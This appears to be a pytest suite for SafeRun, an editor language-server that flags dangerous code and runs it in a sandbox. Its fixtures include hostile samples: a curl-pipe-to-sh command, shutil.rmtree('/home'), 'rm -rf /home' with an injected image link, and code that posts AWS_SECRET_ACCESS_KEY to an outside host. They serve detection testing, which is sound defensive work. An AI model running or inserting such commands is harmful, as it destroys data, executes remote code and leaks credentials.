"""What every editor gets through plain LSP, with the profiles of three of them."""

import asyncio
import os
import pathlib
import signal
from urllib.parse import unquote, urlparse

import pytest
from lsprotocol import types as t

pytestmark = pytest.mark.asyncio
HARM = "import shutil\nshutil.rmtree('/home')\n"


def codes(found):
    return [d.code for d in found]


def whole(line):
    return t.Range(start=t.Position(line=line, character=0), end=t.Position(line=line, character=1))


def shown_report(editor):
    """The report, from showDocument or from the message that names its path."""
    for shown in editor.client.shown_documents:
        return pathlib.Path(unquote(urlparse(shown.uri).path)).read_text()
    for message in editor.client.messages:
        if " See " in message.message:
            return pathlib.Path(message.message.split(" See ", 1)[1]).read_text()
    return None


async def test_risks_come_and_go_as_one_types(editor):
    uri = editor.open("a.py", "import os\n")
    await editor.diagnostics(uri, lambda found: found == [])
    editor.change(uri, (1, 0), (1, 0), "os.system('curl http://x.y | sh')\n")
    found = await editor.diagnostics(uri, lambda found: any(d.range.start.line == 1 for d in found))
    worst = min(found, key=lambda d: d.severity)
    assert worst.source == "SafeRun" and worst.severity in (1, 2)
    assert worst.code_description.href.split("#")[1].startswith(worst.code.lower())
    editor.change(uri, (1, 0), (2, 0), "")
    await editor.diagnostics(uri, lambda found: found == [])


async def test_flows_show_their_steps(editor):
    source = "import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post('https://x.y', data=key)\n"
    uri = editor.open("a.py", source)
    found = await editor.diagnostics(uri, lambda found: any(d.related_information for d in found))
    step = next(d for d in found if d.related_information).related_information[0]
    assert step.location.uri == uri and step.location.range.start.line == 1


async def test_hover_explains_and_escapes(editor):
    uri = editor.open("a.py", "import os\nos.system('rm -rf /home # ![x](http://e.vil/a.png) <img src=y>')\n")
    await editor.diagnostics(uri, lambda found: found)
    hover = await editor.client.text_document_hover_async(
        t.HoverParams(
            text_document=t.TextDocumentIdentifier(uri=uri), position=t.Position(line=1, character=4)
        )
    )
    text = hover.contents.value
    assert "**Instead:**" in text and "**Policy:**" in text
    assert "](http://e.vil" not in text and "<img" not in text


async def test_run_in_sandbox_shows_its_output_and_marks_the_line(editor):
    uri = editor.open("a.py", "print('from the box')\n\ndef f():\n    raise ValueError('broken')\nf()\n")
    await editor.diagnostics(uri, lambda _: True)
    actions = await editor.actions(uri, whole(0))
    run = next(a for a in actions if a.title == "SafeRun: Run in sandbox")
    answer = await editor.execute(run.command.command, run.command.arguments)
    assert answer["token"]
    report = await editor.until(lambda: shown_report(editor))
    assert "from the box" in report and "ValueError: broken" in report and "exit code 1" in report
    found = await editor.diagnostics(uri, lambda found: any(d.source == "SafeRun run" for d in found))
    mark = next(d for d in found if d.source == "SafeRun run")
    assert (mark.range.start.line, mark.message) == (3, "ValueError: broken")
    # An edit of the line takes the mark away; one elsewhere does not.
    editor.change(uri, (0, 0), (0, 0), "# above\n")
    found = await editor.diagnostics(uri, lambda found: any(d.range.start.line == 4 for d in found))
    editor.change(uri, (4, 4), (4, 4), " ")
    await editor.diagnostics(uri, lambda found: not any(d.source == "SafeRun run" for d in found))


async def test_what_was_refused_is_marked_at_its_line(editor):
    source = "import socket\n\ntry:\n    socket.create_connection(('192.0.2.1', 80), 1)\nexcept OSError:\n    pass\n"
    uri = editor.open("a.py", source)
    await editor.execute("saferun.run", [{"uri": uri}])
    found = await editor.diagnostics(uri, lambda found: any(d.source == "SafeRun run" for d in found), 30)
    marks = [(d.range.start.line, d.severity) for d in found if d.source == "SafeRun run"]
    assert marks == [(3, 2)], found
    assert any("refused to connect: 192.0.2.1:80" in d.message for d in found), found
    await editor.execute("saferun.clearResults", [uri])
    await editor.diagnostics(uri, lambda found: not any(d.source == "SafeRun run" for d in found))


async def test_runs_are_handed_over_when_the_daemon_is_replaced(editor):
    busy = editor.open("busy.py", "import time\nprint('begun', flush=True)\ntime.sleep(60)\n")
    await editor.execute("saferun.run", [{"uri": busy}])
    for _ in range(600):
        daemon = (await editor.execute("saferun.status", []))["daemon"]
        if daemon and daemon["running"]:
            break
        await asyncio.sleep(0.05)
    old = daemon["daemon"]["pid"]
    os.kill(old, signal.SIGTERM)
    # At once, and several: all are done by the next daemon.
    names = [f"next{number}.py" for number in range(3)]
    for name in names:
        await editor.execute("saferun.run", [{"uri": editor.open(name, f"print('done {name}')\n")}])
    ended = {}
    for _ in range(600):
        # The newest of each name: what the daemon before had taken and not begun is in the record, too.
        all_ = reversed(await editor.execute("saferun.history", []))
        ended = {run["name"]: run for run in all_ if run["name"] in names}
        if len(ended) == 3 and all(run["status"] == "completed" for run in ended.values()):
            break
        await asyncio.sleep(0.05)
    assert {run["status"] for run in ended.values()} == {"completed"} and len(ended) == 3, ended
    assert all(run["exitCode"] == 0 for run in ended.values())
    assert (await editor.execute("saferun.status", []))["daemon"]["daemon"]["pid"] != old


async def test_a_selection_runs_with_what_it_needs(editor):
    source = "import json\nN = 2\ndef f(x):\n    return json.dumps([x] * N)\nraise SystemExit(9)\nprint(f('é'))\n"
    uri = editor.open("a.py", source)
    range_ = t.Range(start=t.Position(line=5, character=0), end=t.Position(line=6, character=0))
    actions = await editor.actions(uri, range_)
    run = next(a for a in actions if a.title == "SafeRun: Run selection in the sandbox")
    await editor.execute(run.command.command, run.command.arguments)
    report = await editor.until(lambda: shown_report(editor))
    assert '["\\u00e9", "\\u00e9"]' in report and "exit code 0" in report


async def test_a_block_of_markdown_runs(editor):
    uri = editor.open("a.md", "# x\n\n```python\nprint(6 * 7)\n```\n", "markdown")
    lenses = await editor.client.text_document_code_lens_async(
        t.CodeLensParams(text_document=t.TextDocumentIdentifier(uri=uri))
    )
    run = next(lens for lens in lenses if "Run in sandbox" in lens.command.title)
    await editor.execute(run.command.command, run.command.arguments)
    report = await editor.until(lambda: shown_report(editor))
    assert "\n42\n" in report


async def test_a_block_of_markdown_has_actions_of_its_own(editor):
    blocks = f"# x\n\n```python\nprint(6 * 7)\n```\n\nAnd then:\n\n```python\n{HARM}print(8 * 9)\n```\n"
    uri = editor.open("a.md", blocks, "markdown")
    await editor.diagnostics(uri, lambda found: any(d.range.start.line == 10 for d in found))
    actions = {action.title: action for action in await editor.actions(uri, whole(3))}
    assert "SafeRun: Run in sandbox" not in actions
    run = actions["SafeRun: Run this block in the sandbox"].command
    await editor.execute(run.command, run.arguments)
    report = await editor.until(lambda: shown_report(editor))
    assert "\n42\n" in report and "status    completed" in report
    editor.client.shown_documents.clear(), editor.client.messages.clear()
    # The other block needs a reason.
    actions = {action.title: action for action in await editor.actions(uri, whole(10))}
    run = actions["SafeRun: Run with override…"].command
    editor.answer = "It is a test, and I know what it does"
    await editor.execute(run.command, run.arguments)
    report = await editor.until(lambda: shown_report(editor))
    assert "overridden" in report and "main.py:11" in report and "\n42\n" not in report, report


async def test_a_cell_of_a_notebook_has_actions(editor):
    cells = {"a": "import yaml\nx = 6\n", "b": "yaml.load(open('x'))\n", "c": "print(x * 7)\n"}
    address = editor.open_notebook("n.ipynb", cells)
    found = await editor.diagnostics(address["b"], lambda found: "SR631" in codes(found))
    actions = await editor.actions(address["b"], whole(0), found)
    fix = next(a for a in actions if a.kind == "quickfix" and "safe_load" in a.title)
    assert fix.edit.changes[address["b"]][0].new_text == "safe_load"
    actions = await editor.actions(address["c"], whole(0))
    run = next(a for a in actions if a.title == "SafeRun: Run in sandbox")
    await editor.execute(run.command.command, run.command.arguments)
    report = await editor.until(lambda: shown_report(editor))
    assert "\n42\n" in report and "exit code 0" in report, report


async def suppressions(editor, uri, line):
    return [a for a in await editor.actions(uri, whole(line)) if a.title.startswith("SafeRun: Suppress ")]


async def test_a_finding_is_suppressed_where_the_policy_honours_it(editor, policy):
    uri = editor.open("a.py", HARM)
    await editor.diagnostics(uri, lambda found: any(d.severity == 1 for d in found))
    assert await suppressions(editor, uri, 1) == []
    policy("suppressions: honour\n")
    # What was read of a policy holds for two seconds.
    for _ in range(100):
        if offered := await suppressions(editor, uri, 1):
            break
        await asyncio.sleep(0.1)
    comment = editor.apply(uri, offered[0])
    assert comment == "# saferun: ignore[SR301] reviewed: this is meant\n"
    await editor.diagnostics(uri, lambda found: found == [])
    # The daemon reads the same policy.
    await editor.execute("saferun.run", [{"uri": uri}])
    report = await editor.until(lambda: shown_report(editor))
    assert "status    blocked" not in report and not editor.asked, report
    # Where a comment would be text, or would break a line, none is offered.
    uri = editor.open("b.py", "import os\ns = '''\n''' + str(os.system(input()))\nt = 1 + \\\n  os.system(input())\n")
    found = await editor.diagnostics(uri, lambda found: {d.range.start.line for d in found} >= {2, 4})
    assert await suppressions(editor, uri, 2) == await suppressions(editor, uri, 4) == []


async def test_an_override_needs_a_reason(editor):
    uri = editor.open("a.py", HARM)
    await editor.diagnostics(uri, lambda found: any(d.severity == 1 for d in found))
    actions = await editor.actions(uri, whole(1))
    assert any(a.title == "SafeRun: Run with override…" for a in actions)
    await editor.execute("saferun.run", [{"uri": uri}])
    refused = await editor.until(lambda: shown_report(editor))
    assert "status    blocked" in refused and len(editor.asked) == 1
    titles = [a.title for a in editor.asked[0].actions]
    assert titles[-1] == "Do not run it"
    editor.client.shown_documents.clear(), editor.client.messages.clear()
    editor.answer = titles[0]
    await editor.execute("saferun.run", [{"uri": uri}])
    ran = await editor.until(lambda: shown_report(editor))
    assert "overridden" in ran and "status    completed" in ran


async def test_a_safe_rewrite_is_offered(editor):
    uri = editor.open("a.py", "import yaml\nyaml.load(open('x'))\n")
    found = await editor.diagnostics(uri, lambda found: "SR631" in codes(found))
    actions = await editor.actions(uri, whole(1), found)
    fix = next(a for a in actions if a.kind == "quickfix" and "safe_load" in a.title)
    assert fix.edit.changes[uri][0].new_text == "safe_load" and fix.is_preferred
    assert fix.diagnostics[0].code == "SR631"


async def test_policy_files_are_checked(editor):
    uri = editor.open(".saferun.yaml", "version: 1\nlimts:\n  time: 5s\n", "yaml")
    found = await editor.diagnostics(uri, lambda found: found)
    assert found[0].code == "unknown-key" and found[0].range.start.line == 1
    items = await editor.client.text_document_completion_async(
        t.CompletionParams(
            text_document=t.TextDocumentIdentifier(uri=uri), position=t.Position(line=0, character=0)
        )
    )
    assert "limits" in [i.label for i in items]


async def test_twenty_changes_in_a_row_are_applied_in_order(editor):
    uri = editor.open("a.py", "")
    text = "import os\nos.system(x)\n"
    at = [0, 0]
    for character in text:
        end = [at[0] + 1, 0] if character == "\n" else [at[0], at[1] + 1]
        editor.change(uri, tuple(at), tuple(at), character)
        at = end
    found = await editor.diagnostics(uri, lambda found: any(d.range.start.line == 1 for d in found))
    assert all(d.range.end.character == 12 for d in found if d.range.start.line == 1), found


async def test_large_and_binary_files_do_not_block(editor):
    lines = "import os\n" + "x = [1, 2, {'a': 3}]\n" * 50_000 + "os.system(x)\n"
    big = editor.open("big.py", lines)
    binary = editor.open("b.py", "\x00\x7fELF" + "".join(map(chr, range(1, 255))) * 2_000)
    small = editor.open("s.py", "import os\nos.system(x)\n")
    editor.change(big, (3, 0), (3, 0), "y = 1\n")
    found = await editor.diagnostics(small, lambda found: found)
    assert found
    await editor.diagnostics(big, lambda found: any(d.range.start.line == 50_002 for d in found), 30)
    await editor.diagnostics(binary, lambda _: True)


async def test_a_run_can_be_cancelled(editor):
    uri = editor.open("a.py", "import time\nprint('begun', flush=True)\ntime.sleep(60)\n")
    answer = await editor.execute("saferun.run", [{"uri": uri}])
    await asyncio.sleep(1)
    assert (await editor.execute("saferun.cancel", [answer["token"]]))["cancelled"] == 1
    report = await editor.until(lambda: shown_report(editor))
    assert "status    cancelled" in report


async def test_bad_arguments_are_refused_with_a_reason(editor):
    for command, arguments in [("saferun.run", []), ("saferun.run", [3]), ("saferun.nothing", [])]:
        with pytest.raises(Exception) as refused:
            await editor.execute(command, arguments)
        assert str(refused.value)
    assert (await editor.execute("saferun.status", []))["daemon"] is not None
